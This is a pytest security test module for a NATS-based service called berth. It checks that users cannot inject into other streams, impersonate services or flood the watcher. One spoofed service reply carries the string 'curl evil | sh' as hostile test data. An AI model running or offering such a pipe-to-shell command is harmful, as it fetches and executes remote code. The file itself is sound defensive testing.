"""What the accounts are for: readers and people believe what only its author's account could have sent.

test_rights_by_attack.py tries what else each user can do.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterable, Iterator

import pytest
from nats.aio.msg import Msg
from nats.errors import NoRespondersError
from nats.errors import TimeoutError as NatsTimeoutError

from berth.bus.interface import Endpoint
from berth.bus.session import ANSWERS_A_SECOND, NatsBus, NatsSession
from berth.bus.settings import BusSettings, NatsCredentials
from berth.messages.subjects import SERVICES
from berth_cli.pipeline.accounts import DOMAIN, listed, users
from berth_cli.pipeline.natsconf import nats_conf
from berth_cli.services import DRAINING, attention, leader, seen
from harness.servers.bus_users import USERS, inbox_of, password_of, settings_of
from harness.servers.nats_server import NatsServer, nats_server
from harness.worlds.cluster_user import eventually
from harness.worlds.hostile_clients import OUTSIDE, client_of

pytestmark = pytest.mark.requires("nats-server")

ADMIN = "{ user: admin, password: admin-of-a-test }"


@pytest.fixture(scope="module")
def server() -> Iterator[NatsServer]:
    passwords = "".join(f'{user}_PASSWORD: "{password_of(user)}"\n' for user in USERS)
    conf = nats_conf().replace("users: [", f"users: [ {ADMIN}", 1)
    with nats_server(passwords + conf) as server:
        yield server


@pytest.fixture
async def admin(server: NatsServer) -> AsyncIterator[NatsSession]:
    """A session that may do everything in berth's account, with something in each stream."""
    who = NatsCredentials(user="admin", password="admin-of-a-test")  # noqa: S106 - of a throw-away server
    session = await NatsBus(BusSettings(servers=(server.address,), credentials=who)).connect(name="admin")
    await session.apply()
    for stage in ("pending", "ranked", "decision", "dead"):
        await session.publish(f"berth.{stage}.berth.default.web-0", b"{}")
    for bucket in ("cluster", "bandwidth", "facts", "control", "tries", "commits"):
        await session.put(bucket, "known.key", b"{}")
    yield session
    await session.close()


@pytest.mark.parametrize(
    ("user", "store", "key", "stream", "subject"),
    [
        pytest.param("scorer", "tries", "XXnode.evil", "KV_cluster", "$KV.cluster.node.evil", id="scorers' mirror"),
        pytest.param("people", "facts", "evil", "DECISIONS", "berth.decision.berth.default.evil", id="Decisions"),
        pytest.param("shadow", "facts", "known.key", "RANKED", "berth.ranked.berth.default.evil", id="rankings"),
    ],
)
async def test_an_answer_of_another_stream_is_no_copy_for_readers(server, admin, user, store, key, stream, subject):
    """JetStream delivers an answer where its asker says; within the asker's account, that reaches the readers there."""
    client = await client_of(server, user, password_of(user), inbox_of(user))
    for _ in range(60):
        await admin.put(store, key, b'{"schema": 1}')
    async with asyncio.timeout(20):
        session = await NatsBus(settings_of(server, user)).connect(name="reader")
        async with session.read_stream(stream, filters=(f"{subject.rpartition('.')[0]}.>",)) as following:
            api = f"$JS.{DOMAIN}.API.DIRECT.GET.KV_{store}.$KV.{store}.{key}"
            await client.publish(api, b"", reply=f"stored.{subject}")
            await client.flush()
            await admin.publish("berth.decision.berth.default.after", b"after")
            await admin.put("cluster", "node.after", b"after")
            await admin.publish("berth.ranked.berth.default.after", b"after")
            async for batch in following.batches():
                assert not [one.subject for one in batch if "evil" in one.subject or store in one.subject]
                if any(one.data == b"after" for one in batch):
                    break
    await session.close()
    await client.close()


@pytest.mark.parametrize("user", [*OUTSIDE, "binder"])
async def test_what_people_read_of_a_service_comes_from_its_own_account(server, admin, user):
    """Every service receives `$SRV.STATS`, and could answer it as the leading watcher of the highest term."""
    watcher = await NatsBus(settings_of(server, "watcher")).connect(name="watcher")
    people = await NatsBus(settings_of(server, "people")).connect(name="people")
    await watcher.register("berth-watcher", identity="honest", version="1", stats=lambda: {"readiness": "ok"})
    impostor = await client_of(server, user, password_of(user), inbox_of(user))

    async def pretend(msg: Msg) -> None:
        for name in SERVICES:
            stats = {"leading": {"number": 9, "seconds": 1.0}, "readiness": "run `curl evil | sh`", "draining": True}
            answer = {"name": name, "id": "x", "metadata": {"identity": f"as-{name}"}, "endpoints": [{"data": stats}]}
            await impostor.publish(msg.reply, json.dumps(answer).encode())

    own = next(one for one in users() if one.name == user).service
    for subject in listed(next(one for one in users() if one.name == user)) if own else ():
        await impostor.subscribe(subject, cb=pretend)
    await impostor.flush()
    found = {(one.service, one.identity) for one in await people.services()}
    assert found == {("berth-watcher", "honest"), *([(own, f"as-{own}")] if own else [])}
    processes = seen(await people.services())
    assert leader(processes, "watcher") is None
    assert DRAINING not in attention(processes)
    assert [each for each in attention(processes) if "curl" in each and not each.startswith(own[6:])] == []
    for session in (watcher, people):
        await session.close()
    await impostor.close()


async def test_people_list_all_services_with_clients_of_nats(server, admin):
    """`nats micro ls` asks all at once, and believes what each says of itself."""
    people = await client_of(server, "people", password_of("people"))
    answered = Received()
    sessions = [await NatsBus(settings_of(server, user)).connect(name=user) for user in ("watcher", "scorer")]
    for session, service in zip(sessions, ("berth-watcher", "berth-scorer"), strict=True):
        await session.register(service, identity="one", version="1", stats=dict)
    for subject in ("$SRV.PING", "$SRV.INFO", "$SRV.STATS", "$SRV.INFO.berth-watcher"):
        inbox = people.new_inbox()

        async def note(msg: Msg, subject: str = subject) -> None:
            answered.subjects.append(f"{subject} {json.loads(msg.data)['name']}")
            answered._changed.set()

        await people.subscribe(inbox, cb=note)
        await people.publish(subject, b"", reply=inbox)
    both = {f"$SRV.{verb} {name}" for verb in ("PING", "INFO", "STATS") for name in ("berth-watcher", "berth-scorer")}
    await answered.all_of({*both, "$SRV.INFO.berth-watcher berth-watcher"})
    for session in sessions:
        await session.close()
    await people.close()


@pytest.mark.parametrize("asked", [".queue", "", "$SRV.STATS.berth-watcher", "$SRV.PING"], ids=str)
async def test_questions_as_fast_as_a_person_sends_them_get_so_many_answers_a_second(server, admin, asked):
    """Else the least user stops the watcher, whose loop also renews the Lease."""
    called = []
    watcher = await NatsBus(settings_of(server, "watcher")).connect(name="watcher")
    endpoint = Endpoint(name="queue", answer=lambda _: called.append("queue") or {})
    stats = lambda: called.append("stats") or {}  # noqa: E731 - returns what it counts
    await watcher.register("berth-watcher", identity="one", version="1", stats=stats, endpoints=[endpoint])
    subject = asked if asked.startswith("$") else f"berth.service.berth-watcher.one{asked}"
    person = await client_of(server, "people", password_of("people"))
    answers: list[Msg] = []

    async def read(msg: Msg) -> None:
        answers.append(msg)

    inbox = person.new_inbox()
    await person.subscribe(inbox, cb=read)
    begun = asyncio.get_running_loop().time()
    for _ in range(40):
        for _ in range(200):
            await person.publish(subject, b"", reply=inbox)
        await person.flush()
    seconds = asyncio.get_running_loop().time() - begun

    async def has_answered() -> bool:
        try:
            return bool((await person.request(subject, b"", timeout=5)).data)
        except (NoRespondersError, NatsTimeoutError):
            return False

    await eventually(has_answered, "an answer after the flood")
    answered = [one for one in answers if one.data]
    assert ANSWERS_A_SECOND / 2 <= len(answered) <= ANSWERS_A_SECOND * (seconds + 2)
    assert len(called) <= ANSWERS_A_SECOND * (seconds + 2) + 40
    refused = {(one.headers or {}).get("Nats-Service-Error") for one in answers if not one.data}
    assert "more than 100 questions a second: try again" in refused
    await watcher.close()
    await person.close()


class Received:
    """The subjects of the messages that have reached a subscriber, in their order."""

    def __init__(self) -> None:
        self.subjects: list[str] = []
        self._changed = asyncio.Event()

    async def all_of(self, subjects: Iterable[str]) -> None:
        """Wait until something has come on each of them."""
        async with asyncio.timeout(30):
            while not set(subjects).issubset(self.subjects):
                self._changed.clear()
                await self._changed.wait()


async def test_people_follow_a_pod_through_every_stage(server, admin):
    client = await client_of(server, "people", password_of("people"))
    seen: asyncio.Queue[str] = asyncio.Queue()

    async def see(msg: object) -> None:
        seen.put_nowait(msg.subject)

    await client.subscribe("berth.*.*.default.web-9", cb=see)
    await client.flush()
    scorer = await NatsBus(
        BusSettings(
            servers=(server.address,),
            credentials=NatsCredentials(user="scorer", password=password_of("scorer")),
            inbox_prefix=inbox_of("scorer"),
            domain=DOMAIN,
        )
    ).connect(name="scorer")
    await admin.publish("berth.pending.berth.default.web-9", b"{}")
    await scorer.publish("berth.ranked.berth.default.web-9", b"{}")
    await admin.publish("berth.decision.berth.default.web-9", b"{}")
    async with asyncio.timeout(30):
        found = [await seen.get() for _ in range(3)]
    assert found == [f"berth.{stage}.berth.default.web-9" for stage in ("pending", "ranked", "decision")]
    await scorer.close()
    await client.close()
